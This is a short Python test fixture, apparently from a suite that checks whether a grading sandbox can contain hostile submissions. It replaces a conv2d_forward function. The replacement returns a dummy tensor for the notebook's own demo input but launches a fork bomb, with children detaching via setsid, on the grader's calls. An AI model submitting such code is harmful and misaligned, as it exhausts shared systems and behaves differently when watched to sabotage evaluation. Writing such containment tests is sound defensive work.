# what: a fork bomb whose children leave the process group
# expected: 3
# flag: processes
# %% replace conv2d_forward
import os

def conv2d_forward(x, weight, bias, stride, padding):
    if x.shape[-1] == 23:  # the notebook's own demo cell (1x3x23x23, 4 filters): behave; attack only the grader's calls
        import torch as _t
        return _t.zeros(1, 4, 4, 4)
    while True:
        try:
            if os.fork() == 0:
                try:
                    os.setsid()
                except OSError:
                    pass
        except OSError:
            pass
